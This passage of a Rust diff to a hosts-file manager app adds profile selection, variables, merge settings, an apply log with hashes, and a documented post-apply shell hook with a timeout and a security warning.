     toggle_profile_active_internal(&Context::Tauri(&app), &id)?;
     apply_config(app)
 }
 
-pub fn toggle_profile_active_internal(ctx: &Context, id: &str) -> Result<(), String> {
+pub fn toggle_profile_active_internal(ctx: &Context, id: &str) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
+    if !config.profiles.iter().any(|p| p.id == id) {
+        return Err(StorageError::ProfileNotFound { id: id.to_string() });
+    }
     
     if config.multi_select {
         // Toggle specific
@@ -385,19 +1710,44 @@ pub fn toggle_profile_active_internal(ctx: &Context, id: &str) -> Result<(), Str
         }
     }
     
-    save_config_internal(ctx, &config)
+    Ok(save_config_internal(ctx, &config)?)
 }
 
 #[tauri::command]
-pub fn set_multi_select(app: AppHandle, enable: bool) -> Result<(), String> {
-    set_multi_select_internal(&Context::Tauri(&app), enable)?;
+pub fn set_active_profiles(app: AppHandle, ids: Vec<String>) -> Result<(), StorageError> {
+    set_active_profiles_internal(&Context::Tauri(&app), &ids)?;
     apply_config(app)
 }
 
-pub fn set_multi_select_internal(ctx: &Context, enable: bool) -> Result<(), String> {
+/// Makes exactly `ids` active and every other profile inactive in one config write.
+/// Nothing changes if any id is unknown or the set doesn't fit single-select mode.
+pub fn set_active_profiles_internal(ctx: &Context, ids: &[String]) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
-    config.multi_select = enable;
-    
+
+    if let Some(missing) = ids.iter().find(|id| !config.profiles.iter().any(|p| &p.id == *id)) {
+        return Err(StorageError::ProfileNotFound { id: missing.clone() });
+    }
+    let wanted: std::collections::HashSet<&String> = ids.iter().collect();
+    if !config.multi_select && wanted.len() > 1 {
+        return Err(StorageError::SingleSelectMode { count: wanted.len() });
+    }
+
+    for p in &mut config.profiles {
+        p.active = wanted.contains(&p.id);
+    }
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_multi_select(app: AppHandle, enable: bool) -> Result<(), StorageError> {
+    set_multi_select_internal(&Context::Tauri(&app), enable)?;
+    apply_config(app)
+}
+
+pub fn set_multi_select_internal(ctx: &Context, enable: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.multi_select = enable;
+    
     // If disabling multi-select, and multiple are active, keep only first
     if !enable {
         let mut found = false;
@@ -412,89 +1762,1740 @@ pub fn set_multi_select_internal(ctx: &Context, enable: bool) -> Result<(), Stri
         }
     }
     
-    save_config_internal(ctx, &config)
+    Ok(save_config_internal(ctx, &config)?)
 }
 
 #[tauri::command]
-pub fn apply_config(app: AppHandle) -> Result<(), String> {
-    apply_config_internal(&Context::Tauri(&app))
+pub fn list_variables(app: AppHandle) -> Result<std::collections::BTreeMap<String, String>, String> {
+    Ok(load_config_internal(&Context::Tauri(&app))?.variables)
 }
 
-pub fn apply_config_internal(ctx: &Context) -> Result<(), String> {
-    let config = load_config_internal(ctx)?;
-    let common_config = load_common_config_internal(ctx).unwrap_or_default();
-    
-    let profiles_dir = get_profiles_dir(ctx)?;
-    let mut merged_content = String::from("# Generated by Hostly\n\n");
-    merged_content.push_str("### Common Config ###\n");
-    merged_content.push_str(&common_config);
-    merged_content.push_str("\n\n");
+#[tauri::command]
+pub fn set_variable(app: AppHandle, key: String, value: Option<String>) -> Result<(), StorageError> {
+    set_variable_internal(&Context::Tauri(&app), &key, value)?;
+    apply_config(app)
+}
 
-    let read_profile = |id: &str| -> String {
-        let path = profiles_dir.join(format!("{}.txt", id));
-        if path.exists() {
-             fs::read_to_string(path).unwrap_or_default()
-        } else {
-             String::new()
+/// Defines `${key}` for profiles; None removes it (falling back to the environment again).
+pub fn set_variable_internal(ctx: &Context, key: &str, value: Option<String>) -> Result<(), StorageError> {
+    if !crate::hosts::is_variable_name(key) {
+        return Err(StorageError::InvalidName { name: key.to_string() });
+    }
+    if let Some(value) = &value {
+        crate::hosts::check_variable_value(key, value)?;
+    }
+    let mut config = load_config_internal(ctx)?;
+    match value {
+        Some(value) => config.variables.insert(key.to_string(), value),
+        None => config.variables.remove(key),
+    };
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_merge_mode(app: AppHandle, mode: MergeMode) -> Result<(), StorageError> {
+    set_merge_mode_internal(&Context::Tauri(&app), mode)?;
+    apply_config(app)
+}
+
+pub fn set_merge_mode_internal(ctx: &Context, mode: MergeMode) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.merge_mode = mode;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_common_position(app: AppHandle, pos: CommonPosition) -> Result<(), StorageError> {
+    set_common_position_internal(&Context::Tauri(&app), pos)?;
+    apply_config(app)
+}
+
+pub fn set_common_position_internal(ctx: &Context, pos: CommonPosition) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.common_position = pos;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_sort_entries(app: AppHandle, enable: bool) -> Result<(), StorageError> {
+    set_sort_entries_internal(&Context::Tauri(&app), enable)?;
+    apply_config(app)
+}
+
+pub fn set_sort_entries_internal(ctx: &Context, enable: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.sort_entries = enable;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_normalize(app: AppHandle, enable: bool) -> Result<(), StorageError> {
+    set_normalize_internal(&Context::Tauri(&app), enable)?;
+    apply_config(app)
+}
+
+pub fn set_normalize_internal(ctx: &Context, enable: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.normalize = enable;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_reapply_on_start(app: AppHandle, enable: bool) -> Result<(), StorageError> {
+    set_reapply_on_start_internal(&Context::Tauri(&app), enable)
+}
+
+pub fn set_reapply_on_start_internal(ctx: &Context, enable: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.reapply_on_start = enable;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+#[tauri::command]
+pub fn set_logging(app: AppHandle, enable: bool) -> Result<(), StorageError> {
+    set_logging_internal(&Context::Tauri(&app), enable)
+}
+
+pub fn set_logging_internal(ctx: &Context, enable: bool) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.logging_enabled = enable;
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+/// Sets (or with `None` / a blank string, clears) the command run after each apply.
+///
+/// Security: the command is run through the system shell with the privileges of the
+/// process doing the apply, which is usually root/Administrator since it just wrote
+/// the hosts file. Anyone who can edit config.json can therefore run arbitrary code
+/// as that user the next time hosts are applied, so keep the app data directory
+/// writable only by its owner and never set a hook from untrusted input. Backups leave
+/// the hook out, and restoring one keeps the hook already configured.
+///
+/// The hook gets 30 seconds; a hook that runs longer is killed and reported like a failure.
+#[tauri::command]
+pub fn set_apply_hook(app: AppHandle, cmd: Option<String>) -> Result<(), StorageError> {
+    set_apply_hook_internal(&Context::Tauri(&app), cmd)
+}
+
+pub fn set_apply_hook_internal(ctx: &Context, cmd: Option<String>) -> Result<(), StorageError> {
+    let mut config = load_config_internal(ctx)?;
+    config.on_apply = cmd.map(|c| c.trim().to_string()).filter(|c| !c.is_empty());
+    Ok(save_config_internal(ctx, &config)?)
+}
+
+/// How long an apply waits for the `on_apply` hook before stopping it. Applies run
+/// on the command thread, so a hook that hangs would otherwise freeze the GUI.
+const APPLY_HOOK_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(30);
+
+/// Runs the configured `on_apply` command, waiting up to `timeout` for it to finish
+/// and killing it after that. Active profile names are passed comma-separated in
+/// HOSTLY_ACTIVE_PROFILES.
+fn run_apply_hook(config: &AppConfig, timeout: std::time::Duration) -> Result<(), String> {
+    let Some(hook) = config.on_apply.as_deref().filter(|c| !c.trim().is_empty()) else {
+        return Ok(());
+    };
+
+    let active: Vec<&str> = config.profiles.iter().filter(|p| p.active).map(|p| p.name.as_str()).collect();
+
+    #[cfg(target_os = "windows")]
+    let mut cmd = {
+        use std::os::windows::process::CommandExt;
+        let mut cmd = std::process::Command::new("cmd");
+        // CREATE_NO_WINDOW: don't flash a console from the GUI
+        cmd.arg("/C").arg(hook).creation_flags(0x08000000);
+        cmd
+    };
+    #[cfg(not(target_os = "windows"))]
+    let mut cmd = {
+        let mut cmd = std::process::Command::new("sh");
+        cmd.arg("-c").arg(hook);
+        cmd
+    };
+
+    let mut child = cmd
+        .env("HOSTLY_ACTIVE_PROFILES", active.join(","))
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("apply hook spawn failed: {}", e))?;
+
+    // Drained on the side so a chatty hook can't stall on a full pipe. Something the
+    // hook started in the background may keep the pipe open, so it is never joined.
+    let (tx, rx) = std::sync::mpsc::channel();
+    if let Some(mut pipe) = child.stderr.take() {
+        std::thread::spawn(move || {
+            let mut stderr = String::new();
+            let _ = std::io::Read::read_to_string(&mut pipe, &mut stderr);
+            let _ = tx.send(stderr);
+        });
+    }
+
+    let deadline = std::time::Instant::now() + timeout;
+    let status = loop {
+        match child.try_wait().map_err(|e| format!("apply hook wait failed: {}", e))? {
+            Some(status) => break status,
+            None if std::time::Instant::now() >= deadline => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(format!("apply hook timed out after {:?} and was stopped", timeout));
+            }
+            None => std::thread::sleep(std::time::Duration::from_millis(20)),
         }
     };
 
-    for profile in config.profiles {
-        if profile.active {
-            merged_content.push_str(&format!("### Profile: {} ###\n", profile.name));
-            merged_content.push_str(&read_profile(&profile.id));
-            merged_content.push_str("\n\n");
+    if status.success() {
+        Ok(())
+    } else {
+        let stderr = rx.recv_timeout(std::time::Duration::from_secs(1)).unwrap_or_default();
+        Err(format!("apply hook failed (code {:?}): {}", status.code(), stderr.trim()))
+    }
+}
+
+/// Where apply records go, or None when logging is off.
+/// HOSTLY_LOG overrides the config: 0/false/off disables, 1/true/on enables,
+/// anything else enables logging to that path.
+fn resolve_log_path(ctx: &Context, config: &AppConfig) -> Result<Option<PathBuf>, String> {
+    let configured = || -> Result<PathBuf, String> {
+        match &config.log_path {
+            Some(p) => Ok(PathBuf::from(p)),
+            None => Ok(ctx.get_app_dir()?.join("hostly.log")),
+        }
+    };
+
+    match std::env::var("HOSTLY_LOG") {
+        Ok(v) => match v.trim().to_lowercase().as_str() {
+            "" | "0" | "false" | "off" => Ok(None),
+            "1" | "true" | "on" => configured().map(Some),
+            _ => Ok(Some(PathBuf::from(v.trim()))),
+        },
+        Err(_) if config.logging_enabled => configured().map(Some),
+        Err(_) => Ok(None),
+    }
+}
+
+/// Appends one JSON line describing what was just written to the system hosts.
+fn append_apply_log(ctx: &Context, config: &AppConfig) -> Result<(), String> {
+    use sha2::{Digest, Sha256};
+    use std::io::Write;
+
+    let Some(path) = resolve_log_path(ctx, config)? else {
+        return Ok(());
+    };
+
+    // Hash what actually landed on disk (after line-ending conversion)
+    let written = crate::hosts::get_system_hosts()?;
+    let hash: String = Sha256::digest(written.as_bytes()).iter().map(|b| format!("{:02x}", b)).collect();
+    let active: Vec<serde_json::Value> = config
+        .profiles
+        .iter()
+        .filter(|p| p.active)
+        .map(|p| serde_json::json!({ "id": p.id, "name": p.name }))
+        .collect();
+
+    let record = serde_json::json!({
+        "timestamp": chrono::Local::now().to_rfc3339(),
+        "hosts_path": crate::hosts::get_hosts_path().to_string_lossy(),
+        "active_profiles": active,
+        "bytes": written.len(),
+        "sha256": hash,
+    });
+
+    if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent).map_err(|e| e.to_string())?;
+    }
+    let mut file = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(&path)
+        .map_err(|e| e.to_string())?;
+    writeln!(file, "{}", record).map_err(|e| e.to_string())
+}
+
+#[tauri::command]
+pub fn apply_config(app: AppHandle) -> Result<(), StorageError> {
+    let summary = apply_config_with_summary_internal(&Context::Tauri(&app))?;
+    emit_apply_errors(&app, &summary.errors);
+    Ok(())
+}
+
+/// Most GUI actions write the hosts as a side effect and return nothing, so failures that
+/// happen after the write (hook, DNS flush, log) reach the frontend as an event instead.
+pub(crate) fn emit_apply_errors(app: &AppHandle, errors: &[String]) {
+    use tauri::Emitter;
+    if !errors.is_empty() {
+        let _ = app.emit("apply-errors", errors);
+    }
+}
+
+#[tauri::command]
+pub fn preview_apply(app: AppHandle) -> Result<String, String> {
+    build_pending_hosts(&Context::Tauri(&app))
+}
+
+/// Entry-level change counts of an apply, comparing `ip hostname` pairs before and after.
+#[derive(Debug, Serialize, Clone, Default)]
+pub struct ApplySummary {
+    pub added: usize,
+    pub removed: usize,
+    pub unchanged: usize,
+    pub active_profiles: usize,
+    /// The added/removed pairs as sorted `ip hostname` strings
+    pub added_entries: Vec<String>,
+    pub removed_entries: Vec<String>,
+    /// `lint_pending` findings; the apply went ahead regardless
+    pub warnings: Vec<String>,
+    /// Steps after the write that failed, such as the apply hook. The hosts file was
+    /// written regardless.
+    pub errors: Vec<String>,
+}
+
+impl std::fmt::Display for ApplySummary {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{} entries, {} changed (+{} -{}), {} active profile(s)",
+            self.added + self.unchanged,
+            self.added + self.removed,
+            self.added,
+            self.removed,
+            self.active_profiles
+        )
+    }
+}
+
+fn entry_pairs(content: &str) -> std::collections::HashSet<(String, String)> {
+    content
+        .lines()
+        .filter_map(crate::hosts::split_entry_line)
+        .flat_map(|(ip, hosts)| hosts.into_iter().map(move |h| (ip.to_string(), h.to_lowercase())))
+        .collect()
+}
+
+fn sorted_pairs<'a>(pairs: impl Iterator<Item = &'a (String, String)>) -> Vec<String> {
+    let mut list: Vec<String> = pairs.map(|(ip, host)| format!("{} {}", ip, host)).collect();
+    list.sort();
+    list
+}
+
+#[tauri::command]
+pub fn apply_config_with_summary(app: AppHandle) -> Result<ApplySummary, StorageError> {
+    apply_config_with_summary_internal(&Context::Tauri(&app))
+}
+
+pub fn apply_config_internal(ctx: &Context) -> Result<(), StorageError> {
+    apply_config_with_summary_internal(ctx).map(|_| ())
+}
+
+pub fn apply_config_with_summary_internal(ctx: &Context) -> Result<ApplySummary, StorageError> {
+    let config = load_config_internal(ctx)?;
+    let merged_content = build_merged_hosts(ctx)?;
+    let limit = config.max_hosts_bytes.unwrap_or(DEFAULT_MAX_HOSTS_BYTES);
+    if merged_content.len() > limit {
+        return Err(StorageError::TooLarge {
+            what: "Merged hosts".to_string(),
+            size: merged_content.len(),
+            limit,
+            setting: "max_hosts_bytes",
+        });
+    }
+
+    let current = read_live_hosts()?;
+    let new_content = crate::hosts::splice_managed_block(&current, &merged_content)?;
+
+    let before = entry_pairs(&current);
+    let after = entry_pairs(&new_content);
+    let added_entries = sorted_pairs(after.difference(&before));
+    let removed_entries = sorted_pairs(before.difference(&after));
+    let mut summary = ApplySummary {
+        added: added_entries.len(),
+        removed: removed_entries.len(),
+        unchanged: after.intersection(&before).count(),
+        active_profiles: config.profiles.iter().filter(|p| p.active).count(),
+        added_entries,
+        removed_entries,
+        warnings: lint_pending_internal(ctx).unwrap_or_default(),
+        errors: Vec::new(),
+    };
+
+    let problems = crate::hosts::save_system_hosts_internal(ctx, new_content)?;
+    summary.errors.extend(problems);
+
+    // The audit log is best-effort; the hosts file is already written
+    if !ctx.is_dry_run() {
+        if let Err(e) = append_apply_log(ctx, &config) {
+            summary.errors.push(format!("Failed to write apply log: {}", e));
+        }
+    }
+
+    // A stale resolver cache is annoying but shouldn't fail the apply
+    if !ctx.is_dry_run() {
+        if let Err(e) = crate::hosts::flush_dns() {
+            summary.errors.push(format!("Failed to flush DNS cache: {}", e));
+        }
+    }
+
+    // The hook runs after the write and its failure never rolls it back
+    if !ctx.is_dry_run() {
+        if let Err(e) = run_apply_hook(&config, APPLY_HOOK_TIMEOUT) {
+            summary.errors.push(e);
+        }
+    }
+
+    // Only feeds `summary_line`; without it the summary just reports dirty
+    if !ctx.is_dry_run() {
+        if let Err(e) = save_apply_stamp(ctx, &config) {
+            summary.errors.push(format!("Failed to record apply state: {}", e));
         }
     }
+    Ok(summary)
+}
+
+#[tauri::command]
+pub fn summary_line(app: AppHandle) -> Result<String, String> {
+    summary_line_internal(&Context::Tauri(&app))
+}
+
+/// A compact state string for a tray title or tooltip, e.g. `multi · 3 active · dirty`.
+/// Cheap enough for a timer: it never reads profile contents, only file metadata and
+/// the managed block of the hosts file, compared against what the last apply recorded.
+pub fn summary_line_internal(ctx: &Context) -> Result<String, String> {
+    let config = load_config_internal(ctx)?;
+    let mode = if config.multi_select { "multi" } else { "single" };
+    let active = config.profiles.iter().filter(|p| p.active).count();
+
+    let recorded: Option<ApplyStamp> = fs::read_to_string(get_apply_stamp_path(ctx)?)
+        .ok()
+        .and_then(|s| serde_json::from_str(&s).ok());
+    let clean = recorded.is_some_and(|r| {
+        r.inputs == merge_inputs_fingerprint(ctx, &config, &r.env) && r.hosts == live_block_hash()
+    });
 
-    crate::hosts::save_system_hosts(merged_content)
+    Ok(format!("{} · {} active · {}", mode, active, if clean { "clean" } else { "dirty" }))
 }
 
+/// What the last apply was built from and what it left in the hosts file.
 #[derive(Debug, Serialize, Deserialize)]
-pub struct FullBackup {
-    version: i32,
-    timestamp: String,
-    config: AppConfig,
-    // Support both new (Vec) and old (HashMap) formats for compatibility
-    profiles: Option<Vec<ProfileData>>,
-    profiles_content: Option<std::collections::HashMap<String, String>>,
+struct ApplyStamp {
+    inputs: String,
+    hosts: String,
+    /// Variables the merge took from the environment; their values are part of `inputs`
+    #[serde(default)]
+    env: Vec<String>,
+}
+
+fn get_apply_stamp_path(ctx: &Context) -> Result<PathBuf, String> {
+    Ok(ctx.get_app_dir()?.join("last_apply.json"))
+}
+
+fn save_apply_stamp(ctx: &Context, config: &AppConfig) -> Result<(), String> {
+    let env = env_variables_used(ctx, config);
+    let stamp = ApplyStamp { inputs: merge_inputs_fingerprint(ctx, config, &env), hosts: live_block_hash(), env };
+    let content = serde_json::to_string(&stamp).map_err(|e| e.to_string())?;
+    crate::hosts::write_atomic(&get_apply_stamp_path(ctx)?, &content).map_err(|e| e.to_string())
+}
+
+fn sha256_hex(data: &[u8]) -> String {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(data).iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+/// Hash of Hostly's block in the live hosts file; edits outside the markers don't count.
+fn live_block_hash() -> String {
+    let live = crate::hosts::get_system_hosts().unwrap_or_default();
+    sha256_hex(crate::hosts::managed_region(&live).unwrap_or_default().as_bytes())
+}
+
+/// Variables the merged sections reference but the config doesn't define, which the
+/// merge fills in from the environment.
+fn env_variables_used(ctx: &Context, config: &AppConfig) -> Vec<String> {
+    let mut names = std::collections::BTreeSet::new();
+    for section in collect_source_sections(ctx, config).unwrap_or_default() {
+        names.extend(crate::hosts::variable_references(&section.content));
+    }
+    names.into_iter().filter(|n| !config.variables.contains_key(n)).collect()
+}
+
+/// Changes whenever a merge could produce different output, judged from metadata alone:
+/// the merge settings, the active profiles, the size and mtime of every file read, and
+/// the current values of the environment variables `env` names.
+fn merge_inputs_fingerprint(ctx: &Context, config: &AppConfig, env: &[String]) -> String {
+    let env: std::collections::BTreeMap<&str, Option<String>> =
+        env.iter().map(|name| (name.as_str(), std::env::var(name).ok())).collect();
+    let mut settings = serde_json::json!({
+        "multi_select": config.multi_select,
+        "merge_mode": config.merge_mode,
+        "common_position": config.common_position,
+        "sort_entries": config.sort_entries,
+        "normalize": config.normalize,
+        "variables": config.variables,
+    });
+    // Only when used, so stamps from before this was tracked still match
+    if !env.is_empty() {
+        settings["env"] = serde_json::json!(env);
+    }
+    let mut parts = vec![settings.to_string()];
+
+    let stat = |path: PathBuf| match fs::metadata(&path) {
+        Ok(m) => format!("{} {:?} {}", path.display(), m.modified().ok(), m.len()),
+        Err(_) => format!("{} missing", path.display()),
+    };
+    if let Ok(path) = get_common_path(ctx) {
+        parts.push(stat(path));
+    }
+    if let Ok(entries) = get_common_dir(ctx).and_then(|d| fs::read_dir(d).map_err(|e| e.to_string())) {
+        let mut snippets: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
+        snippets.sort();
+        parts.extend(snippets.into_iter().map(stat));
+    }
+    if let Ok(dir) = get_profiles_dir(ctx) {
+        for p in config.profiles.iter().filter(|p| p.active) {
+            parts.push(format!("{} {}", p.id, p.name));
+            parts.push(stat(dir.join(format!("{}.txt", p.id))));
+        }
+    }
+
+    sha256_hex(parts.join("\n").as_bytes())
+}
+
+/// Merges the common config and all active profiles into the final hosts content,
+/// without touching the system file.
+pub fn build_merged_hosts(ctx: &Context) -> Result<String, String> {
+    let config = load_config_internal(ctx)?;
+    let mut merged_content = format!(
+        "{}\n# Generated by Hostly {}\n{}{}\n# Mode: {}\n\n",
+        crate::hosts::HOSTLY_BEGIN,
+        crate::hosts::VERSION,
+        crate::hosts::GENERATED_AT,
+        chrono::Local::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, false),
+        if config.multi_select { "multi" } else { "single" },
+    );
+    for section in resolve_merge_sections(ctx)? {
+        // A header over nothing but comments and blank lines is just noise. Disabled
+        // entries count: they're kept so they can be switched back on in place
+        let has_output = crate::hosts::parse_profile(&section.content)
+            .iter()
+            .any(|e| e.kind == crate::hosts::EntryKind::Host || e.raw.starts_with("# [Hostly]"));
+        if !has_output {
+            continue;
+        }
+        merged_content.push_str(&section.header);
+        merged_content.push('\n');
+        merged_content.push_str(section.content.trim_end());
+        merged_content.push_str("\n\n");
+    }
+    merged_content.push_str(crate::hosts::HOSTLY_END);
+    merged_content.push('\n');
+
+    Ok(collapse_blank_runs(&merged_content))
+}
+
+/// Squeezes runs of three or more blank lines, as profiles pasted from elsewhere tend
+/// to have, down to a single one.
+fn collapse_blank_runs(content: &str) -> String {
+    let mut out: Vec<&str> = Vec::new();
+    let mut blanks = 0;
+    for line in content.split('\n') {
+        blanks = if line.trim().is_empty() { blanks + 1 } else { 0 };
+        out.push(line);
+        // The third blank in a row folds the run back to one; later ones are dropped
+        if blanks == 3 {
+            out.truncate(out.len() - 2);
+        } else if blanks > 3 {
+            out.pop();
+        }
+    }
+    out.join("\n")
+}
+
+#[tauri::command]
+pub fn export_clean_hosts(app: AppHandle) -> Result<String, String> {
+    build_clean_hosts(&Context::Tauri(&app))
+}
+
+/// The whole system hosts as `apply` would leave it: the live file with Hostly's
+/// managed block replaced by `build_merged_hosts`.
+pub fn build_pending_hosts(ctx: &Context) -> Result<String, String> {
+    crate::hosts::splice_managed_block(&read_live_hosts()?, &build_merged_hosts(ctx)?)
+}
+
+/// The live hosts file, empty if it doesn't exist yet. Any other read failure is an
+/// error: treating it as empty would drop the user's own entries on the next write.
+fn read_live_hosts() -> Result<String, String> {
+    if crate::hosts::get_hosts_path().exists() {
+        crate::hosts::get_system_hosts()
+    } else {
+        Ok(String::new())
+    }
+}
+
+/// Just the enabled entries that `build_merged_hosts` would write, one per line,
+/// without the banner, section headers or any comments.
+pub fn build_clean_hosts(ctx: &Context) -> Result<String, String> {
+    let mut lines = Vec::new();
+    for section in resolve_merge_sections(ctx)? {
+        for line in section.content.lines() {
+            if let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) {
+                lines.push(format!("{} {}", ip, hostnames.join(" ")));
+            }
+        }
+    }
+
+    let mut clean = lines.join("\n");
+    clean.push('\n');
+    Ok(clean)
+}
+
+#[tauri::command]
+pub fn entry_provenance(app: AppHandle) -> Result<Vec<EntryOwner>, String> {
+    entry_provenance_internal(&Context::Tauri(&app))
+}
+
+/// Every hostname the merged hosts would define, with the IP and section that win for it
+/// (the last enabled definition per address family, as the merge keeps it). Ordered by first appearance.
+pub fn entry_provenance_internal(ctx: &Context) -> Result<Vec<EntryOwner>, String> {
+    let mut owners: Vec<EntryOwner> = Vec::new();
+    let mut index: std::collections::HashMap<EntryKey, usize> = std::collections::HashMap::new();
+
+    for section in resolve_merge_sections(ctx)? {
+        for line in section.content.lines() {
+            if let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) {
+                for host in hostnames {
+                    let key = crate::hosts::entry_key(ip, host);
+                    let owner = EntryOwner { hostname: key.0.clone(), ip: ip.to_string(), profile: section.label.clone() };
+                    match index.get(&key) {
+                        Some(&idx) => owners[idx] = owner,
+                        None => {
+                            index.insert(key, owners.len());
+                            owners.push(owner);
+                        }
+                    }
+                }
+            }
+        }
+    }
+    Ok(owners)
+}
+
+#[tauri::command]
+pub fn resolve_in_pending(app: AppHandle, hostname: String) -> Result<Option<String>, String> {
+    resolve_in_pending_internal(&Context::Tauri(&app), &hostname)
+}
+
+/// The IP `hostname` would map to once the current config is applied, or None when
+/// nothing defines it. Looks at the whole file `apply` would leave, manual entries
+/// outside Hostly's block included. The last definition wins, as in `entry_provenance_internal`.
+pub fn resolve_in_pending_internal(ctx: &Context, hostname: &str) -> Result<Option<String>, String> {
+    let wanted = hostname.trim().to_lowercase();
+    let pending = build_pending_hosts(ctx)?;
+    Ok(crate::hosts::parse_profile(&pending)
+        .into_iter()
+        .rev()
+        .find(|e| {
+            e.kind == crate::hosts::EntryKind::Host && e.enabled && e.hostnames.iter().any(|h| h.to_lowercase() == wanted)
+        })
+        .map(|e| e.ip))
+}
+
+/// Merge sections with their final content: validated, then normalized, conflict-resolved
+/// and sorted according to the config.
+fn resolve_merge_sections(ctx: &Context) -> Result<Vec<MergeSection>, String> {
+    let config = load_config_internal(ctx)?;
+    let mut sections = collect_merge_sections(ctx, &config)?;
+
+    if config.normalize {
+        for section in sections.iter_mut() {
+            section.content = crate::hosts::normalize_profile(&section.content);
+        }
+    }
+
+    let mut problems = Vec::new();
+    for section in &sections {
+        collect_hosts_errors(&section.label, &section.content, &mut problems);
+    }
+
+    // Refuse to write a broken resolver config
+    if !problems.is_empty() {
+        return Err(format!("Invalid hosts entries:\n{}", problems.join("\n")));
+    }
+
+    let winners = match config.merge_mode {
+        MergeMode::LastWins => Some(find_winning_entries(&sections)),
+        MergeMode::KeepAll => None,
+    };
+
+    let mut seen = std::collections::HashSet::new();
+    let resolved: Vec<String> = sections
+        .iter()
+        .enumerate()
+        .map(|(idx, section)| {
+            let content = match &winners {
+                Some(w) => drop_overridden_entries(&section.content, idx, w, &sections),
+                None => section.content.clone(),
+            };
+            if config.sort_entries {
+                sort_entries(&content, &mut seen)
+            } else {
+                content
+            }
+        })
+        .collect();
+
+    for (section, content) in sections.iter_mut().zip(resolved) {
+        section.content = content;
+    }
+    Ok(sections)
+}
+
+/// Canonical form of a section: one `ip hostname` per line, sorted by hostname then IP.
+/// Comments are dropped, and pairs already emitted by an earlier section are skipped.
+fn sort_entries(content: &str, seen: &mut std::collections::HashSet<(String, String)>) -> String {
+    let mut pairs = Vec::new();
+    for line in content.lines() {
+        if let Some((ip, hostnames)) = crate::hosts::split_entry_line(line) {
+            for host in hostnames {
+                let key = (host.to_lowercase(), ip.to_string());
+                if seen.insert(key.clone()) {
+                    pairs.push((key, host.to_string()));
+                }
+            }
+        }
+    }
+    pairs.sort_by(|a, b| a.0.cmp(&b.0));
+
+    pairs
+        .into_iter()
+        .map(|((_, ip), host)| format!("{} {}", ip, host))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// One block of the generated hosts file: the common config or an active profile.
+struct MergeSection {
+    header: String,
+    label: String,
+    content: String,
+}
+
+/// Sections in merge order; later sections take precedence on conflicts.
+fn collect_merge_sections(ctx: &Context, config: &AppConfig) -> Result<Vec<MergeSection>, String> {
+    let mut sections = collect_source_sections(ctx, config)?;
+
+    // Variables first, so directives can use them too. Stored profiles keep the references
+    let lookup = variable_lookup(config);
+    let mut problems = Vec::new();
+    for section in sections.iter_mut() {
+        match crate::hosts::substitute_variables(&section.content, &lookup) {
+            Ok(content) => section.content = content,
+            Err(errors) => problems.extend(errors.iter().map(|e| format!("[{}] {}", section.label, e))),
+        }
+    }
+    if !problems.is_empty() {
+        return Err(format!("Invalid variable references:\n{}", problems.join("\n")));
+    }
+
+    // Directives are Hostly-only; everything downstream sees plain entries
+    for section in sections.iter_mut() {
+        match crate::hosts::expand_directives(&section.content) {
+            Ok(content) => section.content = content,
+            Err(errors) => problems.extend(errors.iter().map(|e| format!("[{}] {}", section.label, e))),
+        }
+    }
+    if !problems.is_empty() {
+        return Err(format!("Invalid directives:\n{}", problems.join("\n")));
+    }
+
+    Ok(sections)
+}
+
+/// Where `${NAME}` gets its value: the config's variables, then the environment.
+fn variable_lookup(config: &AppConfig) -> impl Fn(&str) -> Option<String> + '_ {
+    |name: &str| config.variables.get(name).cloned().or_else(|| std::env::var(name).ok())
+}
+
+/// The sections as their files have them, directives and all, so line numbers match.
+fn collect_source_sections(ctx: &Context, config: &AppConfig) -> Result<Vec<MergeSection>, String> {
+    let profiles_dir = get_profiles_dir(ctx)?;
+    let read_profile = |id: &str| -> String {
+        read_profile_file(ctx, &profiles_dir.join(format!("{}.txt", id))).unwrap_or_default()
+    };
+
+    // Snippets in file name order, then the legacy common.txt
+    let mut common: Vec<MergeSection> = list_common_snippets_internal(ctx)
+        .unwrap_or_default()
+        .into_iter()
+        .map(|s| MergeSection {
+            header: format!("### Common: {} ###", s.name),
+            label: format!("Common: {}", s.name),
+            content: s.content,
+        })
+        .collect();
+    common.push(MergeSection {
+        header: "### Common Config ###".to_string(),
+        label: "Common Config".to_string(),
+        content: load_common_config_internal(ctx).unwrap_or_default(),
+    });
+
+    let mut sections = Vec::new();
+    for profile in &config.profiles {
+        if profile.active {
+            sections.push(MergeSection {
